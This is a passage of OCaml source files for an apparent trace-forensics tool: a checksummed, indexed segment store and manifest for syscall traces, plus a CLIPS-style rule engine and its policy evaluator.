              let r = ref [] in
              Hashtbl.add t.w_names name r;
              r
          in
          (* one posting per (name, line) even if several fields of
             the same line carry the name *)
          (match !steps with
          | last :: _ when last = step -> ()
          | _ -> steps := step :: !steps)
      in
      note "res_name";
      note "target_name";
      note "server_name";
      (* the syscall name too, so "which sessions reached execve?" is
         one indexed lookup fleet-wide *)
      note "call"
    | "counter" -> (
      match (str_field fields "name", int_field fields "value") with
      | Some n, Some v -> t.w_counters <- (n, v) :: t.w_counters
      | _ -> ())
    | "hot_block" -> (
      match
        ( int_field fields "pid", int_field fields "addr",
          int_field fields "count" )
      with
      | Some p, Some a, Some c -> t.w_blocks <- (p, a, c) :: t.w_blocks
      | _ -> ())
    | _ -> ()

  (* Index the chunk's lines.  The step of a line is its ordinal in
     the whole trace — guaranteed by the emitter, which stamps [step]
     with a per-line bump — so no per-line parse is needed to know it;
     only the four indexed event kinds get a full parse. *)
  let scan_chunk t chunk =
    let n = String.length chunk in
    let lines = ref 0 in
    let lo = ref 0 in
    while !lo < n do
      let hi =
        match String.index_from_opt chunk !lo '\n' with
        | Some i -> i
        | None -> n
      in
      (match ev_of_line chunk !lo hi with
      | Some (("flow" | "warning" | "counter" | "hot_block") as ev) -> (
        match
          Forensics.Jsonl.parse_line (String.sub chunk !lo (hi - !lo))
        with
        | Ok fields -> index_line t ev (t.w_steps + !lines) fields
        | Error _ -> () (* indexing is advisory; loads stay byte-exact *))
      | _ -> ());
      incr lines;
      lo := hi + 1
    done;
    !lines

  let add_chunk t chunk =
    if t.w_sealed then invalid_arg "Store.Segment.Writer.add_chunk: sealed";
    if String.length chunk > 0 then begin
      let pos = Buffer.length t.w_buf in
      let c_first_step = t.w_steps in
      let c_raw_off = t.w_raw in
      let lines = scan_chunk t chunk in
      t.w_chunks <-
        { c_pos = pos; c_raw_off; c_first_step; c_lines = lines }
        :: t.w_chunks;
      t.w_steps <- t.w_steps + lines;
      t.w_raw <- t.w_raw + String.length chunk;
      Frame.add t.w_buf ~kind:Frame.Data chunk
    end

  let target t = Obs.Trace.chunk_target ~threshold:t.w_chunk_bytes (add_chunk t)

  let render_index b ix =
    List.iter
      (fun c ->
        Printf.bprintf b
          "{\"ix\":\"chunk\",\"pos\":%d,\"raw_off\":%d,\"first_step\":%d,\"lines\":%d}\n"
          c.c_pos c.c_raw_off c.c_first_step c.c_lines)
      ix.ix_chunks;
    List.iter
      (fun w ->
        Printf.bprintf b
          "{\"ix\":\"warning\",\"step\":%d,\"rule\":%s,\"severity\":%s}\n"
          w.w_step (Jout.quote w.w_rule) (Jout.quote w.w_severity))
      ix.ix_warnings;
    List.iter
      (fun (name, steps) ->
        Printf.bprintf b "{\"ix\":\"name\",\"name\":%s,\"steps\":%s}\n"
          (Jout.quote name)
          (Jout.quote (String.concat "," (List.map string_of_int steps))))
      ix.ix_names;
    List.iter
      (fun (pid, addr, count) ->
        Printf.bprintf b
          "{\"ix\":\"block\",\"pid\":%d,\"addr\":%d,\"count\":%d}\n" pid addr
          count)
      ix.ix_blocks;
    List.iter
      (fun (name, value) ->
        Printf.bprintf b "{\"ix\":\"counter\",\"name\":%s,\"value\":%d}\n"
          (Jout.quote name) value)
      ix.ix_counters

  let seal t =
    if t.w_sealed then invalid_arg "Store.Segment.Writer.seal: sealed";
    t.w_sealed <- true;
    let ix =
      { ix_chunks = List.rev t.w_chunks;
        ix_warnings = List.rev t.w_warnings;
        ix_names =
          Hashtbl.fold
            (fun name steps acc -> (name, List.rev !steps) :: acc)
            t.w_names []
          |> List.sort (fun (a, _) (b, _) -> String.compare a b);
        ix_blocks = List.rev t.w_blocks;
        ix_counters = List.rev t.w_counters }
    in
    let ib = Buffer.create 4096 in
    render_index ib ix;
    Frame.add t.w_buf ~kind:Frame.Index (Buffer.contents ib);
    Frame.add t.w_buf ~kind:Frame.End
      (Printf.sprintf "{\"seg\":\"end\",\"steps\":%d,\"raw_bytes\":%d}\n"
         t.w_steps t.w_raw);
    let s_bytes = Buffer.contents t.w_buf in
    Obs.Counter.incr c_segments_written;
    Obs.Counter.add c_bytes_raw t.w_raw;
    Obs.Counter.add c_bytes_framed (String.length s_bytes);
    Obs.Counter.add c_index_entries (index_entries ix);
    { s_bytes; s_steps = t.w_steps; s_raw_bytes = t.w_raw; s_index = ix }
end

(* ------------------------------------------------------------------ *)
(* Reader                                                              *)

type loaded = {
  l_raw : string;
  l_index : index;
  l_steps : int;
  l_raw_bytes : int;
}

let parse_index_payload text =
  let chunks = ref [] and warnings = ref [] and names = ref [] in
  let blocks = ref [] and counters = ref [] in
  let err = ref None in
  String.split_on_char '\n' text
  |> List.iter (fun line ->
         if line <> "" && !err = None then
           match Forensics.Jsonl.parse_line line with
           | Error e -> err := Some ("bad index line: " ^ e)
           | Ok fields -> (
             let req_int k = int_field fields k in
             let req_str k = str_field fields k in
             match str_field fields "ix" with
             | Some "chunk" -> (
               match
                 ( req_int "pos", req_int "raw_off", req_int "first_step",
                   req_int "lines" )
               with
               | Some p, Some o, Some f, Some l ->
                 chunks :=
                   { c_pos = p; c_raw_off = o; c_first_step = f;
                     c_lines = l }
                   :: !chunks
               | _ -> err := Some "bad chunk index line")
             | Some "warning" -> (
               match (req_int "step", req_str "rule", req_str "severity") with
               | Some s, Some r, Some v ->
                 warnings :=
                   { w_step = s; w_rule = r; w_severity = v } :: !warnings
               | _ -> err := Some "bad warning index line")
             | Some "name" -> (
               match (req_str "name", req_str "steps") with
               | Some n, Some steps -> (
                 match
                   String.split_on_char ',' steps
                   |> List.filter (fun s -> s <> "")
                   |> List.map int_of_string_opt
                   |> fun l ->
                   if List.mem None l then None
                   else Some (List.filter_map Fun.id l)
                 with
                 | Some steps -> names := (n, steps) :: !names
                 | None -> err := Some "bad name index line")
               | _ -> err := Some "bad name index line")
             | Some "block" -> (
               match (req_int "pid", req_int "addr", req_int "count") with
               | Some p, Some a, Some c -> blocks := (p, a, c) :: !blocks
               | _ -> err := Some "bad block index line")
             | Some "counter" -> (
               match (req_str "name", req_int "value") with
               | Some n, Some v -> counters := (n, v) :: !counters
               | _ -> err := Some "bad counter index line")
             | Some _ -> () (* forward-compatible: unknown posting kinds *)
             | None -> err := Some "index line without ix field"));
  match !err with
  | Some e -> Error e
  | None ->
    Ok
      { ix_chunks = List.rev !chunks;
        ix_warnings = List.rev !warnings;
        ix_names = List.rev !names;
        ix_blocks = List.rev !blocks;
        ix_counters = List.rev !counters }

let parse_end_payload text =
  match Forensics.Jsonl.parse_line (String.trim text) with
  | Error e -> Error ("bad end frame: " ^ e)
  | Ok fields -> (
    match (int_field fields "steps", int_field fields "raw_bytes") with
    | Some steps, Some raw -> Ok (steps, raw)
    | _ -> Error "end frame missing steps/raw_bytes")

(* Walk every frame, requiring the magic, exactly one index frame, and
   a terminal end frame — the completeness marker a torn write lacks. *)
let frames ~path s =
  let fail reason = Error (Hth.Error.Load_failure { path; reason }) in
  let n = String.length s in
  if n < String.length Frame.magic
     || String.sub s 0 (String.length Frame.magic) <> Frame.magic
  then fail "bad segment magic"
  else begin
    let rec go pos acc =
      if pos = n then Ok (List.rev acc)
      else
        match Frame.read s ~pos with
        | Error reason -> Error reason
        | Ok (f, next) ->
          if f.Frame.f_kind = Frame.End && next <> n then
            Error "bytes after end frame"
          else go next (f :: acc)
    in
    match go (String.length Frame.magic) [] with
    | Error reason -> fail reason
    | Ok fs -> (
      match List.rev fs with
      | last :: _ when last.Frame.f_kind = Frame.End -> Ok fs
      | _ -> fail "missing end frame (segment truncated?)")
  end

let decode_meta ~path fs =
  let fail reason = Error (Hth.Error.Load_failure { path; reason }) in
  let index_frames =
    List.filter (fun f -> f.Frame.f_kind = Frame.Index) fs
  in
  let end_frame = List.find (fun f -> f.Frame.f_kind = Frame.End) fs in
  match index_frames with
  | [ ixf ] -> (
    match Frame.payload ixf with
    | Error reason -> fail ("index frame: " ^ reason)
    | Ok text -> (
      match parse_index_payload text with
      | Error reason -> fail reason
      | Ok ix -> (
        match Frame.payload end_frame with
        | Error reason -> fail ("end frame: " ^ reason)
        | Ok text -> (
          match parse_end_payload text with
          | Error reason -> fail reason
          | Ok (steps, raw) -> Ok (ix, steps, raw)))))
  | _ -> fail "expected exactly one index frame"

let load_index ~path s =
  match frames ~path s with
  | Error _ as e -> e
  | Ok fs -> decode_meta ~path fs

let load ~path s =
  let fail reason = Error (Hth.Error.Load_failure { path; reason }) in
  match frames ~path s with
  | Error _ as e -> e
  | Ok fs -> (
    match decode_meta ~path fs with
    | Error _ as e -> e
    | Ok (l_index, l_steps, l_raw_bytes) -> (
      let buf = Buffer.create (l_raw_bytes + 64) in
      let err = ref None in
      List.iter
        (fun f ->
          if !err = None && f.Frame.f_kind = Frame.Data then
            match Frame.payload f with
            | Ok chunk -> Buffer.add_string buf chunk
            | Error reason -> err := Some ("data frame: " ^ reason))
        fs;
      match !err with
      | Some reason -> fail reason
      | None ->
        let l_raw = Buffer.contents buf in
        if String.length l_raw <> l_raw_bytes then
          fail "reconstructed trace size differs from end frame"
        else begin
          let lines = ref 0 in
          String.iter (fun c -> if c = '\n' then incr lines) l_raw;
          if !lines <> l_steps then
            fail "reconstructed line count differs from end frame"
          else Ok { l_raw; l_index; l_steps; l_raw_bytes }
        end))
