(** The fleet manifest: one flat-JSONL line per stored run.

    [MANIFEST.jsonl] is the warehouse's source of truth — a segment
    file is visible to queries iff a manifest line names it, and the
    line is written only after the segment is fully on disk, so a
    drained or killed writer leaves complete runs or no run at all.

    Every field is part of the deterministic query surface: rendering
    an entry is a pure function, and [seed]/[fault] are omitted (not
    nulled) when absent so byte-comparison across store builds is
    exact. *)

type entry = {
  e_run : string;  (** unique run id within the store *)
  e_scenario : string;
  e_policy : string;  (** "native" or "clips" *)
  e_seed : int option;
  e_fault : string option;  (** fault-plan spec, if injected *)
  e_verdict : string;  (** verdict label, or [error:<kind>] *)
  e_expected : string;
  e_match : bool;  (** verdict matched the scenario expectation *)
  e_warnings : int;
  e_distinct : int;
  e_degraded : bool;
  e_steps : int;
  e_raw_bytes : int;
  e_framed_bytes : int;
  e_digest : string;  (** {!digest} of the run's embedded counters *)
  e_segment : string;  (** segment path relative to the store root *)
}

val render : entry -> string
(** One manifest line, newline-terminated. *)

val parse : string -> (entry, string) result

val digest : (string * int) list -> string
(** FNV-1a 64-bit over [name=value] pairs — a compact fingerprint of a
    run's counter profile, for cheap cross-run "same behaviour?"
    checks. *)
