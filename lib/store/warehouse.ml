let manifest_name = "MANIFEST.jsonl"
let segments_dir = "segments"

let sanitize_run s =
  String.map (function '/' | ' ' -> '_' | c -> c) s

type t = {
  t_dir : string;
  t_oc : out_channel;
  t_runs : (string, unit) Hashtbl.t;
  mutable t_total : int;
  mutable t_appended : int;
  mutable t_raw_bytes : int;  (* appended through this handle *)
  mutable t_framed_bytes : int;
}

let dir t = t.t_dir
let total t = t.t_total
let appended t = t.t_appended
let raw_bytes t = t.t_raw_bytes
let framed_bytes t = t.t_framed_bytes

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

let ensure_dir path =
  if not (Sys.file_exists path) then Sys.mkdir path 0o755
  else if not (Sys.is_directory path) then
    raise (Sys_error (path ^ ": not a directory"))

let load_manifest path =
  if not (Sys.file_exists path) then Ok []
  else
    read_file path |> String.split_on_char '\n'
    |> List.filter (fun l -> l <> "")
    |> List.fold_left
         (fun acc line ->
           match acc with
           | Error _ -> acc
           | Ok entries -> (
             match Manifest.parse line with
             | Ok e -> Ok (e :: entries)
             | Error reason ->
               Error (Hth.Error.Load_failure { path; reason })))
         (Ok [])
    |> Result.map List.rev

let open_ dir =
  match
    ensure_dir dir;
    ensure_dir (Filename.concat dir segments_dir);
    load_manifest (Filename.concat dir manifest_name)
  with
  | exception Sys_error reason ->
    Error (Hth.Error.Load_failure { path = dir; reason })
  | Error _ as e -> e
  | Ok entries ->
    let t_runs = Hashtbl.create 64 in
    List.iter (fun (e : Manifest.entry) ->
        Hashtbl.replace t_runs e.e_run ()) entries;
    let t_oc =
      open_out_gen
        [ Open_append; Open_creat; Open_binary ]
        0o644
        (Filename.concat dir manifest_name)
    in
    Ok
      { t_dir = dir; t_oc; t_runs; t_total = List.length entries;
        t_appended = 0; t_raw_bytes = 0; t_framed_bytes = 0 }

let fresh_run_id t wanted =
  let wanted = sanitize_run wanted in
  if not (Hashtbl.mem t.t_runs wanted) then wanted
  else begin
    let n = ref 2 in
    while Hashtbl.mem t.t_runs (Printf.sprintf "%s~%d" wanted !n) do
      incr n
    done;
    Printf.sprintf "%s~%d" wanted !n
  end

let write_file path bytes =
  let oc = open_out_bin path in
  Fun.protect
    ~finally:(fun () -> close_out_noerr oc)
    (fun () -> output_string oc bytes)

let append t ~entry ~sealed =
  let run = fresh_run_id t entry.Manifest.e_run in
  let rel = Filename.concat segments_dir (run ^ ".seg") in
  let final = Filename.concat t.t_dir rel in
  let tmp = Filename.concat t.t_dir
      (Filename.concat segments_dir ("." ^ run ^ ".seg.tmp"))
  in
  write_file tmp sealed.Segment.s_bytes;
  Sys.rename tmp final;
  let entry =
    { entry with
      Manifest.e_run = run; e_steps = sealed.Segment.s_steps;
      e_raw_bytes = sealed.Segment.s_raw_bytes;
      e_framed_bytes = String.length sealed.Segment.s_bytes;
      e_segment = rel }
  in
  (* the manifest line publishes the run; flush so a kill after this
     point can only lose runs, never tear one *)
  output_string t.t_oc (Manifest.render entry);
  flush t.t_oc;
  Hashtbl.replace t.t_runs run ();
  t.t_total <- t.t_total + 1;
  t.t_appended <- t.t_appended + 1;
  t.t_raw_bytes <- t.t_raw_bytes + sealed.Segment.s_raw_bytes;
  t.t_framed_bytes <- t.t_framed_bytes + String.length sealed.Segment.s_bytes;
  entry

let close t = close_out_noerr t.t_oc

(* ------------------------------------------------------------------ *)
(* Read side                                                           *)

type view = { v_dir : string; v_entries : Manifest.entry list }

let load dir =
  let path = Filename.concat dir manifest_name in
  if not (Sys.file_exists dir) then
    Error
      (Hth.Error.Load_failure { path = dir; reason = "no such store directory" })
  else if not (Sys.file_exists path) then
    Error (Hth.Error.Load_failure { path; reason = "no manifest in store" })
  else
    match load_manifest path with
    | Error _ as e -> e
    | Ok v_entries -> Ok { v_dir = dir; v_entries }

let find view run =
  match
    List.find_opt (fun (e : Manifest.entry) -> e.e_run = run) view.v_entries
  with
  | Some _ as hit -> hit
  | None ->
    (* convenience: accept the raw scenario name if it sanitizes to a
       unique run id *)
    let s = sanitize_run run in
    List.find_opt (fun (e : Manifest.entry) -> e.e_run = s) view.v_entries

let segment_bytes view (entry : Manifest.entry) =
  let path = Filename.concat view.v_dir entry.e_segment in
  if not (Sys.file_exists path) then
    Error
      (Hth.Error.Load_failure { path; reason = "segment file missing" })
  else
    match read_file path with
    | bytes -> Ok (path, bytes)
    | exception Sys_error reason ->
      Error (Hth.Error.Load_failure { path; reason })

let raw_trace view entry =
  match segment_bytes view entry with
  | Error _ as e -> e
  | Ok (path, bytes) ->
    Result.map
      (fun (l : Segment.loaded) -> l.l_raw)
      (Segment.load ~path bytes)

let read_index view entry =
  match segment_bytes view entry with
  | Error _ as e -> e
  | Ok (path, bytes) ->
    Result.map
      (fun (ix, _, _) -> ix)
      (Segment.load_index ~path bytes)
