(** Length-framed segment records with adler-32 integrity.

    A segment file is the 8-byte magic {!magic} followed by frames;
    each frame is a 10-byte header — kind byte ([D]ata / inde[X] /
    [E]nd), a flags byte (bit 0: payload is raw-deflate compressed),
    payload length and adler-32 of the {e stored} payload, both
    little-endian u32 — then the payload bytes.  The checksum covers
    the stored bytes, so corruption is detected before any
    decompression is attempted. *)

val magic : string
(** ["HTHSEG1\n"] — first 8 bytes of every segment file. *)

type kind = Data | Index | End

type t = {
  f_kind : kind;
  f_compressed : bool;
  f_stored : string;  (** payload as stored (compressed if flagged) *)
}

val adler32 : string -> int

val add : Buffer.t -> kind:kind -> string -> unit
(** [add buf ~kind payload] frames [payload], deflate-compressing it
    when that actually shrinks it (the flag byte records which). *)

val read : string -> pos:int -> (t * int, string) result
(** [read s ~pos] parses the frame at [pos], verifying bounds and
    checksum, and returns it with the offset of the next frame. *)

val payload : t -> (string, string) result
(** The frame's logical payload, decompressed if needed. *)
