(** The on-disk warehouse: a directory of segment files under one
    fleet manifest.

    Layout: [DIR/MANIFEST.jsonl] plus [DIR/segments/<run>.seg].
    Appends are publish-atomic — the segment is written to a dotted
    temp file, renamed into place, and only then is its manifest line
    written and flushed — so a reader (or a SIGTERM-drained server)
    observes complete runs or no run, never a torn one.  Run ids are
    uniquified against everything already in the manifest ([run],
    [run~2], ...), so re-ingesting a scenario extends the store rather
    than clobbering history. *)

type t
(** An open warehouse with append rights.  Single-writer: appends are
    not internally locked; serialize them in the caller (the batch
    coordinator and the serve collector are both single consumers). *)

val open_ : string -> (t, Hth.Error.t) result
(** Create or reopen a warehouse directory; reads any existing
    manifest to learn taken run ids. *)

val dir : t -> string

val total : t -> int
(** Manifest entries: pre-existing plus appended. *)

val appended : t -> int
(** Entries appended through this handle. *)

val raw_bytes : t -> int
(** Raw trace bytes appended through this handle. *)

val framed_bytes : t -> int
(** Framed (on-disk) bytes appended through this handle. *)

val append : t -> entry:Manifest.entry -> sealed:Segment.sealed -> Manifest.entry
(** Store one run: [entry]'s size/segment fields are filled from
    [sealed] and its run id uniquified; returns the entry as
    committed.  @raise Sys_error on filesystem failure. *)

val close : t -> unit

val sanitize_run : string -> string
(** Scenario name -> run id / file stem: '/' and ' ' become '_' (the
    same mapping batch [--trace-dir] uses). *)

(** {2 Read side} *)

type view = { v_dir : string; v_entries : Manifest.entry list }
(** A loaded manifest, entry order = append order. *)

val load : string -> (view, Hth.Error.t) result

val find : view -> string -> Manifest.entry option
(** Look up by run id (also accepts the unsanitized scenario name when
    unambiguous). *)

val raw_trace : view -> Manifest.entry -> (string, Hth.Error.t) result
(** Full decode of the run's segment: the byte-exact JSONL trace. *)

val read_index : view -> Manifest.entry -> (Segment.index, Hth.Error.t) result
(** The run's index without touching data frames. *)
