(** One session's trace as a framed, indexed segment.

    A segment holds the session's JSONL trace split into line-aligned
    data frames, followed by one index frame and one end frame (see
    {!Frame} for the wire format).  The index is built {e while the
    trace streams through the writer} — chunk offsets, warning steps,
    resource-name postings, per-block hit counts and the embedded
    per-run counters — so fleet-wide queries never decompress data
    frames, and per-run reads seek by chunk instead of scanning.

    The end frame is the completeness marker: a segment without one
    (e.g. a process killed mid-write) fails to load with a typed
    {!Hth.Error.Load_failure}, never a crash — and the warehouse
    publishes segments atomically, so readers see complete segments or
    none at all. *)

type chunk = {
  c_pos : int;  (** byte offset of the data frame in the segment *)
  c_raw_off : int;  (** offset of the chunk's first byte in the raw trace *)
  c_first_step : int;  (** step index of the chunk's first line *)
  c_lines : int;
}

type warning = { w_step : int; w_rule : string; w_severity : string }

type index = {
  ix_chunks : chunk list;  (** file order *)
  ix_warnings : warning list;  (** step order *)
  ix_names : (string * int list) list;
      (** resource/name -> steps of the ["flow"] lines naming it
          (res_name / target_name / server_name), sorted by name *)
  ix_blocks : (int * int * int) list;  (** (pid, addr, count), trace order *)
  ix_counters : (string * int) list;  (** embedded per-run counters *)
}

val index_entries : index -> int
(** Total postings in an index — the [store.index.entries] unit. *)

type sealed = {
  s_bytes : string;  (** the complete segment file image *)
  s_steps : int;
  s_raw_bytes : int;
  s_index : index;
}

(** Streaming writer: feed line-aligned trace chunks (what
    {!Obs.Trace.chunk_target} delivers), seal once. *)
module Writer : sig
  type t

  val create : ?chunk_bytes:int -> unit -> t
  (** [chunk_bytes] (default 64 KiB) is the data-frame granularity the
      {!target} sink asks for; it must be identical across writers for
      segments to be byte-comparable, so leave the default alone
      outside tests. *)

  val add_chunk : t -> string -> unit
  (** Append one line-aligned chunk of raw JSONL trace bytes.
      @raise Invalid_argument after {!seal}. *)

  val target : t -> Obs.Trace.target
  (** A trace sink feeding this writer, e.g. for
      [Hth.Engine.run_outcome ?trace]. *)

  val seal : t -> sealed
  (** Close the segment: writes the index and end frames, bumps the
      [store.*] counters.  Idempotent per writer via the sealed flag.
      @raise Invalid_argument on double seal. *)
end

type loaded = {
  l_raw : string;  (** the byte-exact reconstructed JSONL trace *)
  l_index : index;
  l_steps : int;
  l_raw_bytes : int;
}

val load : path:string -> string -> (loaded, Hth.Error.t) result
(** Decode a full segment image, verifying frame checksums, the end
    frame, and that the reconstruction matches its declared size and
    line count.  [path] only labels the {!Hth.Error.Load_failure}. *)

val load_index : path:string -> string -> (index * int * int, Hth.Error.t) result
(** [load_index ~path bytes] is [(index, steps, raw_bytes)] without
    decompressing any data frame — the fleet-query fast path. *)
