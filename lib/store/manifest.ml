type entry = {
  e_run : string;
  e_scenario : string;
  e_policy : string;
  e_seed : int option;
  e_fault : string option;
  e_verdict : string;
  e_expected : string;
  e_match : bool;
  e_warnings : int;
  e_distinct : int;
  e_degraded : bool;
  e_steps : int;
  e_raw_bytes : int;
  e_framed_bytes : int;
  e_digest : string;
  e_segment : string;
}

let digest counters =
  let h = ref 0xcbf29ce484222325L in
  let mix c =
    h := Int64.mul (Int64.logxor !h (Int64.of_int (Char.code c))) 0x100000001b3L
  in
  List.iter
    (fun (name, value) ->
      String.iter mix name;
      mix '=';
      String.iter mix (string_of_int value);
      mix '\n')
    counters;
  Printf.sprintf "%016Lx" !h

let render e =
  let b = Buffer.create 256 in
  Printf.bprintf b "{\"run\":%s,\"scenario\":%s,\"policy\":%s"
    (Jout.quote e.e_run) (Jout.quote e.e_scenario) (Jout.quote e.e_policy);
  (match e.e_seed with
  | Some s -> Printf.bprintf b ",\"seed\":%d" s
  | None -> ());
  (match e.e_fault with
  | Some f -> Printf.bprintf b ",\"fault\":%s" (Jout.quote f)
  | None -> ());
  Printf.bprintf b
    ",\"verdict\":%s,\"expected\":%s,\"match\":%b,\"warnings\":%d,\"distinct\":%d,\"degraded\":%b,\"steps\":%d,\"raw_bytes\":%d,\"framed_bytes\":%d,\"digest\":%s,\"segment\":%s}\n"
    (Jout.quote e.e_verdict) (Jout.quote e.e_expected) e.e_match e.e_warnings
    e.e_distinct e.e_degraded e.e_steps e.e_raw_bytes e.e_framed_bytes
    (Jout.quote e.e_digest) (Jout.quote e.e_segment);
  Buffer.contents b

let parse line =
  match Forensics.Jsonl.parse_line line with
  | Error e -> Error ("bad manifest line: " ^ e)
  | Ok fields -> (
    let str k =
      match List.assoc_opt k fields with
      | Some (Forensics.Jsonl.Str s) -> Some s
      | _ -> None
    in
    let int k =
      match List.assoc_opt k fields with
      | Some (Forensics.Jsonl.Int i) -> Some i
      | _ -> None
    in
    let bool k =
      match List.assoc_opt k fields with
      | Some (Forensics.Jsonl.Bool b) -> Some b
      | _ -> None
    in
    match
      ( (str "run", str "scenario", str "policy", str "verdict"),
        (str "expected", bool "match", int "warnings", int "distinct"),
        (bool "degraded", int "steps", int "raw_bytes", int "framed_bytes"),
        (str "digest", str "segment") )
    with
    | ( (Some e_run, Some e_scenario, Some e_policy, Some e_verdict),
        (Some e_expected, Some e_match, Some e_warnings, Some e_distinct),
        (Some e_degraded, Some e_steps, Some e_raw_bytes, Some e_framed_bytes),
        (Some e_digest, Some e_segment) ) ->
      Ok
        { e_run; e_scenario; e_policy; e_seed = int "seed";
          e_fault = str "fault"; e_verdict; e_expected; e_match; e_warnings;
          e_distinct; e_degraded; e_steps; e_raw_bytes; e_framed_bytes;
          e_digest; e_segment }
    | _ -> Error "manifest line missing required fields")
