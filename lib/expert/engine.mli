(** The inference engine (Fig. 2: "Clips Inference Engine").

    Forward chaining over working memory: whenever the facts satisfy a
    rule's patterns (with consistent variable bindings) an {e activation}
    is placed on the agenda; [run] repeatedly fires the highest-salience
    activation until quiescence.  Refraction is observed — a rule never
    fires twice on the same combination of facts — matching CLIPS
    behaviour and preventing livelock on rules that assert facts. *)

type t

(** A production rule.  [action] runs with the engine, the accumulated
    variable bindings and the matched facts (pattern order). *)
type rule = {
  rule_name : string;
  salience : int;  (** higher fires first; default 0 *)
  patterns : Pattern.t list;
  negated : Pattern.t list;
      (** CLIPS [not] conditional elements: the rule activates only when
          no working-memory fact matches them under the bindings
          accumulated by [patterns] *)
  guard : t -> Pattern.bindings -> bool;
      (** extra join test over the bindings (CLIPS [test] CE) *)
  action : t -> Pattern.bindings -> Fact.t list -> unit;
}

(** [rule ~name ?salience ?negated ?guard patterns action] builds a
    rule. *)
val rule :
  name:string ->
  ?salience:int ->
  ?negated:Pattern.t list ->
  ?guard:(t -> Pattern.bindings -> bool) ->
  Pattern.t list ->
  (t -> Pattern.bindings -> Fact.t list -> unit) ->
  rule

val create : unit -> t

(** {2 Definitions} *)

val deftemplate : t -> Template.t -> unit

val template : t -> string -> Template.t option

val defrule : t -> rule -> unit

(** [defun e name f] registers a host function callable from textual
    policies ([filter_binary] etc.) and from rule actions. *)
val defun : t -> string -> (Value.t list -> Value.t) -> unit

val call_fn : t -> string -> Value.t list -> Value.t

(** [set_global e name v] defines a global (CLIPS [?*name*]). *)
val set_global : t -> string -> Value.t -> unit

val global : t -> string -> Value.t option

(** {2 Working memory} *)

(** [assert_fact e tpl slots] normalizes against the template and adds a
    fact.  @raise Failure on unknown template or slot. *)
val assert_fact : t -> string -> (string * Value.t) list -> Fact.t

val retract : t -> Fact.t -> unit

val retract_id : t -> int -> unit

val facts : t -> Fact.t list

val fact_by_id : t -> int -> Fact.t option

(** {2 Output}

    Rule actions print through the engine so hosts can capture CLIPS-style
    output. *)

val printout : t -> string -> unit

(** [set_out e f] redirects [printout]; default accumulates internally. *)
val set_out : t -> (string -> unit) -> unit

(** [drain_output e] returns and clears accumulated output lines. *)
val drain_output : t -> string list

(** {2 Inference} *)

(** [run ?limit e] fires activations until the agenda is empty or [limit]
    firings happened (default 10_000); returns the number of firings. *)
val run : ?limit:int -> t -> int

(** [current_activation e] is the activation being fired right now —
    the rule name and the matched facts, in pattern order — or [None]
    outside rule actions.  Warning sinks read this to attach the
    matched facts to a warning as evidence without every policy action
    having to thread them through. *)
val current_activation : t -> (string * Fact.t list) option
