exception Error of string

let fail fmt = Fmt.kstr (fun s -> raise (Error s)) fmt

let is_int s =
  s <> "" && (match int_of_string_opt s with Some _ -> true | None -> false)

let is_var s = String.length s > 1 && s.[0] = '?' && s.[1] <> '*'

let is_global s =
  String.length s > 3 && s.[0] = '?' && s.[1] = '*' && s.[String.length s - 1] = '*'

(* ?name -> name, $?name -> name *)
let var_name s =
  let s = if String.length s > 0 && s.[0] = '$' then String.sub s 1 (String.length s - 1) else s in
  String.sub s 1 (String.length s - 1)

let global_name s = String.sub s 2 (String.length s - 3)

(* Runtime environment of a firing: rule bindings extended by [bind]. *)
type env = { mutable vars : (string * Value.t) list }

let rec eval_expr eng env (form : Sexp.t) : Value.t =
  match form with
  | Sexp.Quoted s -> Value.Str s
  | Sexp.Atom a when is_int a -> Value.Int (int_of_string a)
  | Sexp.Atom a when is_global a ->
    (match Engine.global eng (global_name a) with
     | Some v -> v
     | None -> fail "undefined global %s" a)
  | Sexp.Atom a when is_var a || (String.length a > 1 && a.[0] = '$') ->
    (match List.assoc_opt (var_name a) env.vars with
     | Some v -> v
     | None -> fail "unbound variable %s" a)
  | Sexp.Atom a -> Value.Sym a
  | Sexp.List (Sexp.Atom fn :: args) ->
    let args = List.map (eval_expr eng env) args in
    Engine.call_fn eng fn args
  | Sexp.List _ -> fail "cannot evaluate %a" Sexp.pp form

let int_of = function
  | Value.Int n -> n
  | v -> fail "expected integer, got %a" Value.pp v

let install_builtins eng =
  let def = Engine.defun eng in
  let fold2 name f =
    def name (function
      | [ a; b ] -> f a b
      | args -> fail "%s expects 2 arguments, got %d" name (List.length args))
  in
  fold2 "eq" (fun a b -> Value.of_bool (Value.equal a b));
  fold2 "neq" (fun a b -> Value.of_bool (not (Value.equal a b)));
  fold2 "<" (fun a b -> Value.of_bool (int_of a < int_of b));
  fold2 ">" (fun a b -> Value.of_bool (int_of a > int_of b));
  fold2 "<=" (fun a b -> Value.of_bool (int_of a <= int_of b));
  fold2 ">=" (fun a b -> Value.of_bool (int_of a >= int_of b));
  def "+" (fun args -> Value.Int (List.fold_left (fun acc v -> acc + int_of v) 0 args));
  def "*" (fun args -> Value.Int (List.fold_left (fun acc v -> acc * int_of v) 1 args));
  def "-" (function
    | [ a ] -> Value.Int (-int_of a)
    | a :: rest -> Value.Int (List.fold_left (fun acc v -> acc - int_of v) (int_of a) rest)
    | [] -> fail "- expects arguments");
  def "and" (fun args -> Value.of_bool (List.for_all Value.truthy args));
  def "or" (fun args -> Value.of_bool (List.exists Value.truthy args));
  def "not" (function
    | [ a ] -> Value.of_bool (not (Value.truthy a))
    | _ -> fail "not expects 1 argument");
  def "str-cat" (fun args -> Value.Str (String.concat "" (List.map Value.text args)));
  def "empty-list" (function
    | [ Value.Lst l ] -> Value.of_bool (l = [])
    | [ _ ] -> Value.sym_false
    | _ -> fail "empty-list expects 1 argument");
  def "length" (function
    | [ Value.Lst l ] -> Value.Int (List.length l)
    | [ Value.Str s ] -> Value.Int (String.length s)
    | _ -> fail "length expects a multifield or string")

(* --- patterns ------------------------------------------------------- *)

let slot_test : Sexp.t -> Pattern.test = function
  | Sexp.Atom "?" -> Pattern.Anything
  | Sexp.Atom a when is_var a || (String.length a > 1 && a.[0] = '$') ->
    Pattern.Var (var_name a)
  | Sexp.Atom a when is_int a -> Pattern.Lit (Value.Int (int_of_string a))
  | Sexp.Atom a -> Pattern.Lit (Value.Sym a)
  | Sexp.Quoted s -> Pattern.Lit (Value.Str s)
  | Sexp.List _ as f -> fail "unsupported slot pattern %a" Sexp.pp f

let parse_pattern ?binding = function
  | Sexp.List (Sexp.Atom tpl :: slots) ->
    let slot = function
